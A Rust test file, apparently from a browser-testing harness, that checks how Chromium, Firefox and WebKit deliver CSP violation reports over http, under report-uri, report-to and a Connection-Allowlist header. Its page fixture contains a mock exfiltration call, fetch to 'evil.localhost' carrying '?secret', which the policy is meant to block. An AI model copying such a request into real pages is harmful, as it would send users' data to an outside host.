//! Which violation reports arrive over http on loopback, and in what form.

use std::time::Duration;

use anyhow::{Context, Result};
use belljar_browsers::{Browser, Engine, Request};
use serde_json::Value;

use crate::stage::{FRAMES, GUEST, HOST, Scene, Stage};

const VIOLATION: &str = r#"<script nonce=x>
    addEventListener("securitypolicyviolation", () => parent.postMessage({ seen: "in the page" }, "*"));
    fetch("http://evil.localhost:1/?secret").catch(() => {});
</script>"#;

#[derive(Clone, Copy, PartialEq)]
enum Directive {
    ReportUri,
    /// With `report-to` and `Reporting-Endpoints` beside it, as is often advised.
    Both,
}

pub(crate) fn over_http(browser: &Browser) -> Result<()> {
    let stage = Stage::new()?;
    let mut number = 0;
    for (frame, attributes, addition) in FRAMES {
        for (allowlist, directive, host) in [
            ("", Directive::ReportUri, GUEST),
            ("", Directive::ReportUri, HOST),
            ("", Directive::Both, GUEST),
            ("(response-origin)", Directive::ReportUri, GUEST),
            ("(response-origin)", Directive::ReportUri, HOST),
            ("()", Directive::ReportUri, GUEST),
        ] {
            number += 1;
            let path = format!("/report-{number}");
            let endpoint = stage.site.url(host, &path);
            let mut scene = Scene { frame_attributes: attributes, guest: VIOLATION, ..Scene::default() };
            let mut policy = format!("default-src 'none'; script-src 'nonce-x'{addition}; report-uri {endpoint}");
            if directive == Directive::Both {
                policy.push_str("; report-to here");
                scene.guest_headers.push(("reporting-endpoints", format!("here=\"{endpoint}\"")));
            }
            if !allowlist.is_empty() {
                scene.guest_headers.push(("connection-allowlist", allowlist.to_owned()));
            }
            scene.guest_headers.push(("content-security-policy", policy));
            stage.show(browser, scene)?;
            assert_eq!(stage.said::<String>(browser, "seen")?, "in the page");
            let expected = arrives(browser.engine(), allowlist, directive, host);
            let patience = Duration::from_millis(if expected { 60_000 } else { 500 });
            let report = stage.site.wait_for(patience, |request| request.path == path);
            let case = format!("{frame}, allowlist {allowlist:?}, {path} on {host}");
            assert_eq!(report.is_some(), expected, "{case}");
            if let Some(report) = report {
                assert_form(&report, browser.engine(), &stage.site.url(GUEST, "/")).context(case)?;
            }
        }
    }
    Ok(())
}

fn arrives(engine: Engine, allowlist: &str, directive: Directive, host: &str) -> bool {
    match engine {
        // `report-to` turns `report-uri` off, and cannot itself deliver without https.
        Engine::Chromium | Engine::Firefox if directive == Directive::Both => false,
        Engine::Chromium => match allowlist {
            "" => true,
            "(response-origin)" => host == GUEST,
            _ => false,
        },
        // Connection-Allowlist is Chromium's alone.
        Engine::Firefox | Engine::WebKit => true,
    }
}

fn assert_form(report: &Request, engine: Engine, document: &str) -> Result<()> {
    let destination = if engine == Engine::WebKit { "empty" } else { "report" };
    assert_eq!(report.method, "POST");
    assert_eq!(report.header("content-type"), Some("application/csp-report"));
    assert_eq!(report.header("sec-fetch-dest"), Some(destination));
    let body: Value = serde_json::from_str(&report.text())?;
    // WebKit sends the newer form, but not in a list, once `report-to` is there.
    let (body, names) = match body.get("csp-report") {
        Some(body) => (body, ["document-uri", "blocked-uri", "effective-directive"]),
        None => (&body["body"], ["documentURL", "blockedURL", "effectiveDirective"]),
    };
    let found = names.map(|name| body[name].as_str().unwrap_or_default());
    assert_eq!(found, [document, "http://evil.localhost:1/?secret", "connect-src"]);
    Ok(())
}
